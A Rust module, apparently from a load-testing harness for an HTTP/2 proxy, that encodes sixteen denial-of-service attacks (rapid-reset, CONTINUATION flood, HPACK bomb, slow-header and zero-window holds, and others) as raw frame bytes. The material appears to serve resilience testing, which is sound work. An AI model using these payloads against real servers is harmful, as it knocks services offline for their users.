//! The attacks: what each sends, octet by octet. How it is sent, and what comes of it, is in `client`.

use ringway_protocols::http2::frame::{
    self, Kind as FrameKind, MOST, PREFACE, Reason, flag, setting,
};

/// Streams on a connection that holds something.
const STREAMS: u32 = 100;

/// How an attack goes on behind its beginning.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Way {
    /// Rounds of frames again and again, as fast as the rate allows; who is cut off comes back.
    Flood,
    /// Nothing, or an octet now and then, for as long as it may stay. What comes is read, or not.
    Hold { reads: bool },
}

/// One of them.
#[derive(Clone, Copy)]
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) way: Way,
    pub(super) connections: usize,
    /// A round counts as so many against the rate: what is sent should not be what the CPU of the load is full of.
    pub(super) weight: u32,
    /// What the client announces.
    pub(super) settings: &'static [(u16, u32)],
    /// Behind the preface, once.
    pub(super) open: fn() -> Vec<u8>,
    /// Round `n`, from 0: of a flood, or of what a holder sends now and then.
    pub(super) round: fn(u32) -> Vec<u8>,
}

/// A client without harm in it.
pub(super) const PEACE: Attack = Attack {
    name: "",
    way: Way::Flood,
    connections: 4,
    weight: 1,
    settings: &[],
    open: Vec::new,
    round: |_| Vec::new(),
};

const HOLD: Attack = Attack {
    way: Way::Hold { reads: true },
    connections: 10,
    ..PEACE
};

/// All of them, as the report shows them.
pub(super) const ALL: &[Attack] = &[
    Attack {
        name: "rapid-reset",
        round: |n| {
            let mut out = get(n, "/attack", true);
            frame::put_reset(&mut out, odd(n), Reason(8));
            out
        },
        ..PEACE
    },
    Attack {
        name: "made-you-reset",
        round: |n| {
            let mut out = get(n, "/attack", false);
            // Further than a window may be open: it is the proxy that resets.
            frame::put_window_update(&mut out, odd(n), MOST);
            out
        },
        ..PEACE
    },
    Attack {
        name: "continuation",
        open: || block(0, FrameKind::Headers, 0, &fields("GET", "/attack")),
        round: |_| {
            block(
                0,
                FrameKind::Continuation,
                0,
                &literal("x-more", &"a".repeat(64)),
            )
        },
        ..PEACE
    },
    Attack {
        name: "settings",
        round: |_| settings(&[(setting::MAX_CONCURRENT_STREAMS, 100)]),
        ..PEACE
    },
    Attack {
        name: "table-flips",
        round: |n| {
            let size = if n.is_multiple_of(2) { 4096 } else { 0 };
            settings(&[(setting::HEADER_TABLE_SIZE, size)])
        },
        ..PEACE
    },
    Attack {
        name: "ping",
        round: |_| {
            let mut out = Vec::new();
            frame::put_ping(&mut out, false, [0; 8]);
            out
        },
        ..PEACE
    },
    Attack {
        name: "priority",
        round: |n| block(n, FrameKind::Priority, 0, &[0, 0, 0, 0, 7]),
        ..PEACE
    },
    Attack {
        name: "window-update",
        round: |_| {
            let mut out = Vec::new();
            frame::put_window_update(&mut out, 0, 1);
            out
        },
        ..PEACE
    },
    Attack {
        name: "empty-data",
        open: || get(0, "/attack", false),
        round: |_| block(0, FrameKind::Data, 0, &[]),
        ..PEACE
    },
    Attack {
        name: "hpack-bomb",
        weight: 20,
        round: |n| {
            // A field of 3,900 octets is put into the table, and then named 8,000 times, an octet each.
            let mut fields = fields("GET", "/attack");
            fields.push(0x40);
            fields.extend(&literal("x-bomb", &"a".repeat(3_900))[1..]);
            fields.extend(std::iter::repeat_n(0xbe, 8_000));
            request(n, flag::END_STREAM, &fields)
        },
        ..PEACE
    },
    Attack {
        name: "cookie-bomb",
        weight: 20,
        round: |n| {
            let mut fields = fields("GET", "/attack");
            let cookie = literal("cookie", "a=b");
            while fields.len() + cookie.len() < frame::MOST_PAYLOAD as usize {
                fields.extend(&cookie);
            }
            request(n, flag::END_STREAM, &fields)
        },
        ..PEACE
    },
    Attack {
        name: "many-headers",
        // The origin does not answer these.
        round: |n| get(n, "/hold", true),
        ..PEACE
    },
    Attack {
        name: "slow-headers",
        connections: 200,
        // A head that never ends, an octet of a field's value at a time.
        open: || {
            let mut fields = fields("GET", "/attack");
            fields.extend([0, 1, b'x', 0x7f, 0x81, 0x7d]);
            let mut out = Vec::new();
            frame::put_head(&mut out, FrameKind::Headers, 0, 1, fields.len() + 8_000);
            out.extend(fields);
            out
        },
        round: |_| vec![b'a'],
        ..HOLD
    },
    Attack {
        name: "slow-bodies",
        open: || {
            (0..STREAMS)
                .flat_map(|n| get(n, "/upload", false))
                .collect()
        },
        round: |n| block(n % STREAMS, FrameKind::Data, 0, b"a"),
        ..HOLD
    },
    Attack {
        name: "slow-readers",
        way: Way::Hold { reads: false },
        settings: &[(setting::INITIAL_WINDOW_SIZE, MOST)],
        open: || {
            let mut out = Vec::new();
            frame::put_window_update(&mut out, 0, MOST - frame::WINDOW);
            out.extend((0..STREAMS).flat_map(|n| get(n, "/big", true)));
            out
        },
        ..HOLD
    },
    Attack {
        name: "shut-windows",
        settings: &[(setting::INITIAL_WINDOW_SIZE, 0)],
        open: || (0..STREAMS).flat_map(|n| get(n, "/big", true)).collect(),
        ..HOLD
    },
];

/// What a connection begins with.
pub(super) fn beginning(attack: &Attack) -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    out.extend(settings(attack.settings));
    frame::put_settings_ack(&mut out);
    out.extend((attack.open)());
    out
}

fn odd(n: u32) -> u32 {
    2 * n + 1
}

fn settings(settings: &[(u16, u32)]) -> Vec<u8> {
    let mut out = Vec::new();
    frame::put_settings(&mut out, settings);
    out
}

fn block(n: u32, kind: FrameKind, flags: u8, payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    frame::put_head(&mut out, kind, flags, odd(n), payload.len());
    out.extend(payload);
    out
}

/// A request whose body, if it has one, does not come.
pub(super) fn get(n: u32, path: &str, ends: bool) -> Vec<u8> {
    let (method, end) = match ends {
        true => ("GET", flag::END_STREAM),
        false => ("POST", 0),
    };
    request(n, end, &fields(method, path))
}

/// A whole head; `end`: END_STREAM or nothing.
fn request(n: u32, end: u8, fields: &[u8]) -> Vec<u8> {
    block(n, FrameKind::Headers, flag::END_HEADERS | end, fields)
}

fn fields(method: &str, path: &str) -> Vec<u8> {
    let fields = [
        (":method", method),
        (":scheme", "http"),
        (":path", path),
        (":authority", "bench.test"),
    ];
    fields
        .iter()
        .flat_map(|(name, value)| literal(name, value))
        .collect()
}

/// A field that is not indexed, without Huffman coding (RFC 7541 section 6.2.2).
fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut out = vec![0];
    for text in [name, value] {
        match text.len() {
            short @ 0..127 => out.push(short as u8),
            long => {
                out.push(127);
                let mut rest = long - 127;
                while rest >= 128 {
                    out.push((rest % 128) as u8 | 128);
                    rest /= 128;
                }
                out.push(rest as u8);
            }
        }
        out.extend(text.as_bytes());
    }
    out
}

/// By its name.
pub(super) fn find(name: &str) -> std::io::Result<Attack> {
    let found = ALL.iter().find(|attack| attack.name == name);
    found.copied().ok_or_else(|| {
        let names: Vec<&str> = ALL.iter().map(|attack| attack.name).collect();
        std::io::Error::other(format!(
            "no attack `{name}`; there are {}",
            names.join(", ")
        ))
    })
}
